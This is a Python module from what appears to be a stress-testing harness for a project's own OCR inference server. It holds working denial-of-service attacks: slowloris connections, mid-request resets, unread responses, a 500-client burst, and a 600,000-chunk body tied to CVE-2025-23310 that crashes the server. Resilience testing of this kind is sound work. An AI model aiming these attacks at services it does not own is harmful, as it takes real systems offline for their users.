"""Connections that are slow, silent, half open, reset or never read from, and very many at once."""

from __future__ import annotations

import asyncio
import base64
import itertools
import json
import socket
import struct
import time
from collections import Counter
from collections.abc import Iterator
from contextlib import ExitStack, suppress
from typing import Any, Final

import grpc
from tritonclient.grpc import service_pb2_grpc

from ocrvl.address import split_address
from ocrvl.wire import Model, Tensor
from perf.harness.tensors import image_tensors
from stress.hostile.attack import Attack
from stress.hostile.attack_context import CLOSED, NO_ANSWER, AttackContext, infer_path, json_body, request

_SLOW: Final = 300
_SLOW_SECONDS: Final = 8.0
_CLIENTS: Final = 500
_CLIENT_SECONDS: Final = 600.0
_RESETS: Final = 100
_UNREAD: Final = 50
_LINGER: Final = struct.pack("ii", 1, 0)
_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
"""How an HTTP/2 connection begins, with empty settings (RFC 9113, 3.4)."""


def _http_head(context: AttackContext, length: int) -> bytes:
    path = infer_path(Model.OCR)
    return f"POST {path} HTTP/1.1\r\nHost: {context.endpoints.http}\r\nContent-Length: {length}\r\n\r\n".encode()


def _body(context: AttackContext) -> bytes:
    return json_body("image", "BYTES", [1], [base64.b64encode(context.image.data).decode()])


def _slow_loris(context: AttackContext) -> Counter[str]:
    """Hundreds of requests that come a byte at a time, over HTTP and gRPC; half of them say nothing at all."""
    beginnings = [(context.endpoints.http, _http_head(context, 10**6)), (context.endpoints.grpc, _PREFACE)]
    with ExitStack() as open_ones:
        slow: list[tuple[socket.socket, Iterator[int]]] = []
        for number in range(_SLOW):
            url, beginning = beginnings[number % 2]
            sender = open_ones.enter_context(context.connect(url))
            slow.append((sender, iter(beginning if number % 4 < 2 else b"")))
        until = time.monotonic() + _SLOW_SECONDS
        cut = set()
        while time.monotonic() < until:
            for number, (sender, rest) in enumerate(slow):
                with suppress(StopIteration):
                    byte = next(rest)
                    try:
                        sender.sendall(bytes([byte]))
                    except OSError:
                        cut.add(number)
            time.sleep(0.2)
        return Counter({"held open": len(slow) - len(cut)}) + Counter({CLOSED: len(cut)})


def _resets(context: AttackContext) -> Counter[str]:
    """Requests whose connection is reset in mid-body, and after the whole body, before the answer."""
    body = _body(context)
    parts = itertools.cycle((body[: len(body) // 2], body, b""))
    for part in itertools.islice(parts, _RESETS):
        with context.connect(context.endpoints.http) as sender:
            sender.sendall(_http_head(context, len(body)) + part)
            sender.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, _LINGER)
    for number in range(_RESETS // 4):
        # a call that is cancelled as soon as it is sent
        context.infer(request(Model.OCR, image_tensors(context.image.data, task="ocr")), 0.001 * (number % 5 + 1))
    return Counter({"reset": _RESETS + _RESETS // 4})


def _unread(context: AttackContext) -> Counter[str]:
    """Answers that nobody reads: requests one after the other on connections of HTTP, and on streams of gRPC."""
    body = _body(context)
    whole = _http_head(context, len(body)) + body
    long = image_tensors(*[context.image.data] * 4, task="ocr", regex="[a-z]{200}", max_tokens=200)
    message = request(Model.STREAM, long)
    with ExitStack() as open_ones:
        for _ in range(_UNREAD):
            sender = open_ones.enter_context(context.connect(context.endpoints.http))
            sender.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
            sender.setblocking(False)
            with suppress(BlockingIOError):
                for _ in range(4):
                    sender.send(whole)
        calls = []
        for _ in range(_UNREAD // 10):
            channel = open_ones.enter_context(
                grpc.insecure_channel(context.endpoints.grpc, [("grpc.http2.lookahead_bytes", 1)])
            )
            calls.append(service_pb2_grpc.GRPCInferenceServiceStub(channel).ModelStreamInfer(iter([message] * 4)))
        time.sleep(_SLOW_SECONDS)
        for call in calls:
            call.cancel()
    return Counter({"never read": _UNREAD * 4 + len(calls) * 4})


def _many_clients(context: AttackContext) -> Counter[str]:
    """500 clients at the same moment, each with a connection of its own."""
    return asyncio.run(_send_all(context))


async def _send_all(context: AttackContext) -> Counter[str]:
    host, port = split_address(context.endpoints.http)
    body = _body(context)
    whole = _http_head(context, len(body)) + body
    start = asyncio.Event()

    async def send() -> str:
        try:
            async with asyncio.timeout(_CLIENT_SECONDS):
                reader, writer = await asyncio.open_connection(host, port)
                await start.wait()
                writer.write(whole)
                head = await reader.readuntil(b"\r\n\r\n")
                fields = dict(line.lower().split(b": ", 1) for line in head.split(b"\r\n")[1:-2])
                answer = json.loads(await reader.readexactly(int(fields[b"content-length"])))
                writer.close()
                return _told(context, head.split(b" ", 2)[1].decode(), answer)
        except TimeoutError:
            return NO_ANSWER
        except (OSError, EOFError):
            return CLOSED

    sending = [asyncio.create_task(send()) for _ in range(_CLIENTS)]
    await asyncio.sleep(1)
    start.set()
    return Counter(await asyncio.gather(*sending))


def _told(context: AttackContext, status: str, answer: Any) -> str:
    if status != "200":
        return f"{status} refused"
    texts = [output["data"][0] for output in answer["outputs"] if output["name"] == Tensor.TEXT]
    return "200 right" if texts == [context.image.text] else "200 INTERNAL wrong text"


def _many_chunks(context: AttackContext) -> Counter[str]:
    """A body in hundreds of thousands of chunks of one byte."""
    head = f"POST {infer_path(Model.OCR)} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
    with context.connect(context.endpoints.http) as sender:
        try:
            sender.sendall(head + b"1\r\n{\r\n" * 600_000 + b"0\r\n\r\n")
            answer = sender.recv(100)
        except TimeoutError:
            return Counter([NO_ANSWER])
        except OSError:
            return Counter([CLOSED])
    return Counter([answer.split(b" ", 2)[1].decode() if answer else CLOSED])


ATTACKS: Final = (
    Attack(
        "slow loris", f"{_SLOW} connections, HTTP and gRPC, a byte now and then or none", _slow_loris, is_answered=False
    ),
    Attack(
        "resets",
        f"{_RESETS} connections reset in mid-request or before the answer; calls cancelled",
        _resets,
        is_answered=False,
    ),
    Attack("never read", f"{_UNREAD} connections and streams whose answers are not read", _unread, is_answered=False),
    Attack(f"{_CLIENTS} clients", f"{_CLIENTS} connections that send at the same moment", _many_clients),
    Attack("many chunks", "a body of 600,000 chunks (CVE-2025-23310)", _many_chunks, ends_server=True),
)
